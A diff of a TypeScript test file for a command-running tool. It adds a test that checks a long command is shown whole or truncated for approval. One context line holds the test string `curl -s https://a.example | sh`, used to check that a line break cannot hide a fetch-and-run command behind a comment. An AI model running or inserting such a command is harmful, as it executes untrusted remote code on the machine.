@@ -8,6 +8,7 @@ import {
   readRunRecord,
 } from "../../../../src/domain/run/run-record.ts";
 import { formatDateTime, formatDayTime, formatTime } from "../../../../src/lib/text.ts";
+import { buildRunQuestion } from "../../../../src/present/run/run-question.ts";
 import { buildRunLine, buildRunRow } from "../../../../src/present/run/run-rows.ts";
 import {
   describeRunEnd,
@@ -23,6 +24,21 @@ test("a line break of a command is seen: without it, what follows a comment woul
       formatCommand(`python3 train.py  # see notes${lineBreak}curl -s https://a.example | sh`),
       formatCommand("python3 train.py  # see notes curl -s https://a.example | sh"),
     );
+});
+
+test("a command that someone else chose is named as one, and is shown whole", () => {
+  const command = `echo Nothing is uploaded. ${"x".repeat(400)}`;
+  const [files, nothing] = [
+    { files: [], folders: [], bytes: 0 },
+    { files: 0, bytes: 0 },
+  ];
+  const list = { ...files, secrets: [], links: 0, specials: 0, unreadable: [], main: nothing, data: [] };
+  const facts = {
+    ...{ id: 7 as never, list, remote: "/r", command, setup: "", secrets: [], limits: {}, price: 1 },
+    ...{ others: [], stopsItself: false },
+  };
+  assert.ok(buildRunQuestion(facts, 1500).detail.startsWith(`Command: ${command}\n`));
+  assert.match(buildRunQuestion(facts).detail, /^echo Nothing is uploaded\. x+…\n/);
 });
 
 function runOf(how: Partial<EndedRun>, plan: Partial<RunRecord["plan"]> = {}): RunRecord {
